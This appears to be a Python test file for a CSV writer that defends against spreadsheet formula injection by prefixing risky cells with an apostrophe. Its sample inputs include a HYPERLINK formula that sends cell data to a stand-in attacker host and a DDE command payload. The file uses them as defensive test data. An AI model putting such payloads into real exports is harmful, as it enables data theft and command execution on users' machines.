"""CSV that nobody's spreadsheet acts on, and that a program reads back as it was."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli.output.cells import csv_lines
from store.tabular.guarding import unguarded

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\tTrade",
    "'=1+1",
    "''@A1",
    "-",
    "+14165551234",
    "-1e5",
)
DANGEROUS = st.text("=+-@\t\r\n ,;\"'0123456789.ab\u00e9\u202e\uff1d\U0001f91d\x00", max_size=12)


def read(text: str) -> list[list[str]]:
    """Return the cells of a CSV file, as Python's own reader has them."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def written(*row: object) -> str:
    """Return one row as it is written."""
    return "".join(csv_lines([row]))


def as_it_was(cell: str) -> str:
    """Return a cell without the apostrophe that was put in front of it."""
    return unguarded(cell)


def acts(cell: str) -> bool:
    """Whether a spreadsheet might take a cell for a formula."""
    number = cell.removeprefix("-").replace(".", "", 1)
    if cell.startswith("-") and number.isascii() and number.isdigit():
        return False
    bare = cell.lstrip(" \t\r\n\x00\ufeff")
    return bare[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20") - {""} or cell[:1] in set("\t\r\n") - {
        ""
    }


@pytest.mark.parametrize("text", FORMULAS)
def test_cell_that_begins_like_a_formula_is_text(text: str) -> None:
    """It has an apostrophe in front and is quoted, and reads back as it was without it."""
    line = written("a", text, "b")
    assert line.startswith("a,\"'")
    [[before, cell, after]] = read(line)
    assert (before, cell, after) == ("a", f"'{text}", "b")
    assert not acts(cell)
    assert as_it_was(cell) == text


def test_numbers_stay_numbers() -> None:
    """Negative ones too, as numbers and as the text in which money is told."""
    values = (0, -5, -1.5, Decimal("-60000.00"), "-60000.00", "-7", "12", None, True)
    assert written(*values) == "0,-5,-1.5,-60000.00,-60000.00,-7,12,,True\n"


def test_text_is_told_as_it_is() -> None:
    """Apostrophes, minus signs and at signs elsewhere are none of our business."""
    assert written("'s-Hertogenbosch", "a=b", "anna@toronto.ca") == (
        "'s-Hertogenbosch,a=b,anna@toronto.ca\n"
    )
    assert written(["a", 2], "one, two", 'the "twin"') == 'a 2,"one, two","the ""twin"""\n'
    assert written("a;=b") == '"a;=b"\n'
    assert read(written("")) == [[""]]


@given(st.lists(st.lists(DANGEROUS | st.text(), min_size=1, max_size=4), max_size=4))
def test_whatever_is_written_no_cell_acts_and_each_reads_back(rows: list[list[str]]) -> None:
    """Row by row and cell by cell, by a reader that isn't ours."""
    cells = read("".join(csv_lines(rows)))
    assert not [cell for row in cells for cell in row if acts(cell)]
    assert [[as_it_was(cell) for cell in row] for row in cells] == rows
